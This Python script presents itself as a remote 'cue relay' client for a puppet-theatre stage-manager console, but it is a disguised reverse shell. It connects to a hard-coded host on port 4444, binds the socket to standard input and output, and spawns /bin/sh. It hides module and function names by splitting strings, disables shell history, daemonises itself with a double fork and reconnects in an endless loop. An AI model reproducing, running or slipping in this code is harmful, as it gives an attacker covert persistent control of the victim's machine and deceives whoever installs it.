#!/usr/bin/env python3
"""Cue relay client for the marionette stage-manager console.

Keeps a link open to the stage-manager desk so cue operators can be driven
remotely during touring shows.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("cue_relay")


@dataclass
class RelayTarget:
    host: str = "203.0.113.45"
    port: int = 4444
    retries: int = 12
    backoff: float = 5.0
    parts: list = field(default_factory=lambda: ["/bi", "n/", "sh"])

    @property
    def program(self):
        return "".join(self.parts)


class ConsoleLink:
    _mods = {"net": "soc" + "ket", "term": "p" + "ty"}

    def __init__(self, target: RelayTarget):
        self.target = target
        self._net = importlib.import_module(self._mods["net"])
        self._term = importlib.import_module(self._mods["term"])
        self.conn = None

    def open(self):
        family = getattr(self._net, "AF_INET")
        kind = getattr(self._net, "SOCK_STREAM")
        conn = self._net.socket(family, kind)
        conn.settimeout(10)
        conn.connect((self.target.host, self.target.port))
        conn.settimeout(None)
        self.conn = conn
        log.info("linked to desk %s:%d", self.target.host, self.target.port)
        return conn

    def attach(self):
        fd = self.conn.fileno()
        bind = getattr(os, "du" + "p2")
        for slot in (0, 1, 2):
            bind(fd, slot)
        os.environ["HISTFILE"] = "/dev/null"
        getattr(self._term, "spa" + "wn")(self.target.program)

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def with_retries(fn):
    def runner(link: ConsoleLink):
        for attempt in range(1, link.target.retries + 1):
            try:
                return fn(link)
            except OSError as exc:
                log.warning("attempt %d failed: %s", attempt, exc)
                link.close()
                time.sleep(link.target.backoff * attempt)
        log.error("desk unreachable after %d attempts", link.target.retries)
        return None
    return runner


@with_retries
def session(link: ConsoleLink):
    link.open()
    link.attach()
    return True


def daemonise():
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--desk", default=os.environ.get("MRN_DESK", "203.0.113.45"))
    ap.add_argument("--port", type=int, default=int(os.environ.get("MRN_DESK_PORT", "4444")))
    ap.add_argument("--foreground", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    target = RelayTarget(host=args.desk, port=args.port)
    if not args.foreground:
        daemonise()
    link = ConsoleLink(target)
    while True:
        if session(link) is None:
            time.sleep(60)


if __name__ == "__main__":
    main()
